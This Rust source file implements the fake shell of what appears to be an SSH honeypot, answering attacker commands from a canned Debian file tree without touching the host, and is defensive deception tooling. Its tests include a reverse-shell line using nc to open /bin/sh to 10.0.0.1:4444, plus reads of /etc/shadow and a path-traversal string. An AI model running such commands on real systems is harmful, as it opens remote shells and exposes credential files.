//! The fake shell's commands: answers a command line from the personality's command
//! table and file tree, for the logged-in account and with its permissions (a user
//! who is not root gets `Permission denied` where a real one would). Pure: no
//! process is started, no file is read or written, input is never used as a path on
//! this host.

use std::borrow::Cow;

use super::super::personality::ShellLook;
use super::accounts::{self, Account, Accounts};

/// Longest command line kept (longer input is cut).
pub const MAX_LINE: usize = 4096;

/// Per-session shell state.
#[derive(Debug, Clone)]
pub struct ShellState {
    pub account: Account,
    pub files: Accounts,
    pub cwd: String,
}

/// What looking up a path found.
enum Lookup<'a> {
    File(Cow<'a, str>),
    Dir,
    Denied,
    Missing,
}

impl ShellState {
    /// A fresh login of `user`, in its home directory.
    pub fn login(user: &str, look: &ShellLook) -> Self {
        let (account, files) = accounts::login(look, user);
        let cwd = account.home.clone();
        ShellState { account, files, cwd }
    }

    /// The prompt, bash-style.
    pub fn prompt(&self, look: &ShellLook) -> String {
        let shown = match self.cwd.strip_prefix(&self.account.home) {
            Some(rest) if rest.is_empty() || rest.starts_with('/') => format!("~{rest}"),
            _ => self.cwd.clone(),
        };
        let sigil = if self.account.is_root() { '#' } else { '$' };
        format!("{}@{}:{}{} ", self.account.name, look.hostname, shown, sigil)
    }

    /// Paths a user other than root may not read (mode 0640/0700 on Debian).
    fn denied(&self, path: &str) -> bool {
        if self.account.is_root() {
            return false;
        }
        let other_home = path
            .strip_prefix("/home/")
            .is_some_and(|rest| !rest.is_empty() && path != self.account.home && !path.starts_with(&format!("{}/", self.account.home)));
        matches!(path, "/etc/shadow" | "/etc/gshadow" | "/etc/sudoers") || path == "/root" || path.starts_with("/root/") || other_home
    }

    fn lookup<'a>(&'a self, look: &'a ShellLook, path: &str) -> Lookup<'a> {
        if self.denied(path) {
            return Lookup::Denied;
        }
        match path {
            "/etc/passwd" => return Lookup::File(Cow::Borrowed(&self.files.passwd)),
            "/etc/group" => return Lookup::File(Cow::Borrowed(&self.files.group)),
            "/etc/shadow" if !look.files.contains_key(path) => return Lookup::File(Cow::Owned(shadow(&self.files.passwd))),
            _ => {}
        }
        if let Some(content) = look.files.get(path) {
            return Lookup::File(Cow::Borrowed(content));
        }
        let is_home = path.strip_prefix("/home/").is_some_and(|r| !r.is_empty() && !r.contains('/'));
        if path == "/" || path == self.account.home || path == "/root" || is_home || look.files.keys().any(|f| f.starts_with(&format!("{path}/"))) {
            return Lookup::Dir;
        }
        Lookup::Missing
    }

    /// Owner and group shown by `ls -l` for a path.
    fn owner(&self, path: &str) -> (String, String) {
        if path == self.account.home || path.starts_with(&format!("{}/", self.account.home)) {
            (self.account.name.clone(), self.account.group.clone())
        } else {
            ("root".into(), "root".into())
        }
    }

    /// Expands `$HOME`, `$USER` and friends as bash would in an argument.
    fn expand(&self, word: &str, look: &ShellLook) -> String {
        let vars = [
            ("$HOME", self.account.home.as_str()),
            ("$USER", self.account.name.as_str()),
            ("$LOGNAME", self.account.name.as_str()),
            ("$SHELL", self.account.shell.as_str()),
            ("$PWD", self.cwd.as_str()),
            ("$HOSTNAME", look.hostname.as_str()),
        ];
        let mut out = word.to_string();
        for (k, v) in vars {
            out = out.replace(&format!("${{{}}}", &k[1..]), v).replace(k, v);
        }
        out
    }
}

/// A shadow file for root to read: every account locked (no hash is ever shown).
fn shadow(passwd: &str) -> String {
    passwd.lines().filter_map(|l| l.split(':').next()).map(|name| format!("{name}:!:19700:0:99999:7:::\n")).collect()
}

/// What running a line produced.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Outcome {
    pub output: String,
    pub exit: bool,
}

/// Resolves `path` against `cwd` into a normalised absolute path (a string only).
fn resolve(cwd: &str, path: &str) -> String {
    let joined = if path.starts_with('/') { path.to_string() } else { format!("{cwd}/{path}") };
    let mut parts: Vec<&str> = Vec::new();
    for p in joined.split('/') {
        match p {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    format!("/{}", parts.join("/"))
}

fn list(state: &ShellState, look: &ShellLook, dir: &str, long: bool, all: bool) -> String {
    let prefix = if dir == "/" { "/".to_string() } else { format!("{dir}/") };
    let mut names: Vec<(String, bool, usize)> = Vec::new();
    for (path, content) in &look.files {
        if let Some(rest) = path.strip_prefix(&prefix) {
            let (name, is_dir) = match rest.split_once('/') {
                Some((d, _)) => (d.to_string(), true),
                None => (rest.to_string(), false),
            };
            if !names.iter().any(|(n, _, _)| *n == name) {
                names.push((name, is_dir, content.len()));
            }
        }
    }
    if all {
        names.insert(0, ("..".into(), true, 4096));
        names.insert(0, (".".into(), true, 4096));
    }
    if !long {
        let visible: Vec<&str> = names.iter().map(|(n, _, _)| n.as_str()).collect();
        return if visible.is_empty() { String::new() } else { format!("{}\n", visible.join("  ")) };
    }
    let mut out = format!("total {}\n", names.len() * 4);
    for (name, is_dir, size) in names {
        let path = if name == "." || name == ".." { dir.to_string() } else { format!("{prefix}{name}") };
        let (user, group) = state.owner(&path);
        let (mode, links, size) = if is_dir { ("drwxr-xr-x", 2, 4096) } else { ("-rw-r--r--", 1, size) };
        out.push_str(&format!("{mode} {links} {user} {group} {size:>5} Nov 20 09:14 {name}\n"));
    }
    out
}

/// Runs one command (no `;`).
fn run_one(cmd: &str, state: &mut ShellState, look: &ShellLook) -> Outcome {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    let Some(&program) = words.first() else { return Outcome::default() };
    let args = &words[1..];
    let text = |s: String| Outcome { output: s, exit: false };
    if let Some(canned) = look.commands.get(&words.join(" ")) {
        return text(canned.clone());
    }
    let home = state.account.home.clone();
    match program {
        "exit" | "logout" => Outcome { output: String::new(), exit: true },
        "pwd" => text(format!("{}\n", state.cwd)),
        "whoami" => text(format!("{}\n", state.account.name)),
        "id" => text(format!("{}\n", state.account.id_line())),
        "hostname" => text(format!("{}\n", look.hostname)),
        "uname" if args.contains(&"-a") => text(format!("{}\n", look.uname)),
        "uname" => text("Linux\n".into()),
        "echo" => text(format!("{}\n", args.iter().map(|a| state.expand(a, look)).collect::<Vec<_>>().join(" "))),
        "cd" => {
            let arg = args.first().copied().unwrap_or("~");
            let target = resolve(&state.cwd, &arg.replacen('~', &home, 1));
            match state.lookup(look, &target) {
                Lookup::Dir => {
                    state.cwd = target;
                    text(String::new())
                }
                Lookup::Denied => text(format!("-bash: cd: {arg}: Permission denied\n")),
                Lookup::File(_) => text(format!("-bash: cd: {arg}: Not a directory\n")),
                Lookup::Missing => text(format!("-bash: cd: {arg}: No such file or directory\n")),
            }
        }
        "ls" => {
            let flags: String = args.iter().filter(|a| a.starts_with('-')).map(|a| a.trim_start_matches('-')).collect();
            let arg = args.iter().find(|a| !a.starts_with('-')).copied();
            let target = arg.map(|p| resolve(&state.cwd, &p.replacen('~', &home, 1))).unwrap_or_else(|| state.cwd.clone());
            let shown = arg.unwrap_or("");
            match state.lookup(look, &target) {
                Lookup::File(_) => text(format!("{shown}\n")),
                Lookup::Dir => text(list(state, look, &target, flags.contains('l'), flags.contains('a'))),
                Lookup::Denied => text(format!("ls: cannot open directory '{shown}': Permission denied\n")),
                Lookup::Missing => text(format!("ls: cannot access '{shown}': No such file or directory\n")),
            }
        }
        "cat" => {
            let mut out = String::new();
            for a in args.iter().filter(|a| !a.starts_with('-')) {
                let path = resolve(&state.cwd, &a.replacen('~', &home, 1));
                match state.lookup(look, &path) {
                    Lookup::File(content) => out.push_str(&content),
                    Lookup::Dir => out.push_str(&format!("cat: {a}: Is a directory\n")),
                    Lookup::Denied => out.push_str(&format!("cat: {a}: Permission denied\n")),
                    Lookup::Missing => out.push_str(&format!("cat: {a}: No such file or directory\n")),
                }
            }
            text(out)
        }
        other => text(format!("-bash: {other}: command not found\n")),
    }
}

/// Runs a command line (`;`-separated commands), as `bash -c` would answer it.
pub fn run_line(line: &str, state: &mut ShellState, look: &ShellLook) -> Outcome {
    let mut all = Outcome::default();
    for cmd in line.split(';') {
        let o = run_one(cmd.trim(), state, look);
        all.output.push_str(&o.output);
        if o.exit {
            all.exit = true;
            break;
        }
    }
    all
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decoy::ssh::SshPersonality;

    fn look() -> ShellLook {
        SshPersonality::built_in("openssh-debian12").unwrap().unwrap().shell
    }

    #[test]
    fn table_of_commands() {
        let look = look();
        let mut s = ShellState::login("radadmin", &look);
        let cases: &[(&str, &str)] = &[
            ("whoami", "radadmin\n"),
            ("pwd", "/home/radadmin\n"),
            ("id", "uid=1001(radadmin) gid=1001(radadmin) groups=1001(radadmin),27(sudo)\n"),
            ("hostname", "pacs-archive01\n"),
            ("echo $HOME $USER", "/home/radadmin radadmin\n"),
            ("nc -e /bin/sh 10.0.0.1 4444", "-bash: nc: command not found\n"),
            ("cat /etc/nonexistent", "cat: /etc/nonexistent: No such file or directory\n"),
            ("cat /etc/shadow", "cat: /etc/shadow: Permission denied\n"),
            ("ls /root", "ls: cannot open directory '/root': Permission denied\n"),
            ("cd /root", "-bash: cd: /root: Permission denied\n"),
            ("cd /opt/pacs; pwd", "/opt/pacs\n"),
            ("ls", "conf\n"),
        ];
        for (line, want) in cases {
            assert_eq!(run_line(line, &mut s, &look).output, *want, "{line}");
        }
        assert!(run_line("cat /etc/passwd", &mut s, &look).output.starts_with("root:x:0:0:root:/root:/bin/bash\n"));
        assert!(run_line("uname -a", &mut s, &look).output.contains("Debian"));
        assert!(run_line("ls -la /etc", &mut s, &look).output.contains(" passwd\n"));
        assert!(run_line("exit", &mut s, &look).exit);
        assert_eq!(s.prompt(&look), "radadmin@pacs-archive01:/opt/pacs$ ");
    }

    /// `id`, `whoami`, the prompt, `$HOME`, `/etc/passwd`, `/etc/group` and `ls -l`
    /// agree for a user the personality's files do not list.
    #[test]
    fn a_planted_user_missing_from_the_files_gets_one_consistent_story() {
        let look = look();
        let mut s = ShellState::login("svc_pacs", &look);
        let id = run_line("id", &mut s, &look).output;
        let uid = s.account.uid;
        assert_eq!(id, format!("uid={uid}(svc_pacs) gid={uid}(svc_pacs) groups={uid}(svc_pacs)\n"));
        assert!(run_line("cat /etc/passwd", &mut s, &look).output.contains(&format!("svc_pacs:x:{uid}:{uid}:,,,:/home/svc_pacs:/bin/bash")));
        assert!(run_line("cat /etc/group", &mut s, &look).output.contains(&format!("svc_pacs:x:{uid}:")));
        assert_eq!(run_line("echo $HOME", &mut s, &look).output, "/home/svc_pacs\n");
        assert_eq!(s.prompt(&look), "svc_pacs@pacs-archive01:~$ ");
        assert!(run_line("ls -la", &mut s, &look).output.contains(" svc_pacs svc_pacs "));
        assert_eq!(run_line("ls /home/radadmin", &mut s, &look).output, "ls: cannot open directory '/home/radadmin': Permission denied\n");
    }

    #[test]
    fn root_reads_a_shadow_with_every_account_locked() {
        let look = look();
        let mut s = ShellState::login("root", &look);
        let shadow = run_line("cat /etc/shadow", &mut s, &look).output;
        assert!(shadow.starts_with("root:!:"), "{shadow}");
        assert!(!shadow.contains('$'), "no hash is ever shown");
        assert_eq!(s.prompt(&look), "root@pacs-archive01:~# ");
    }

    #[test]
    fn paths_are_strings_only_and_never_escape() {
        assert_eq!(resolve("/home/a", "../../../../etc/passwd"), "/etc/passwd");
        assert_eq!(resolve("/", "./x/../y"), "/y");
    }
}
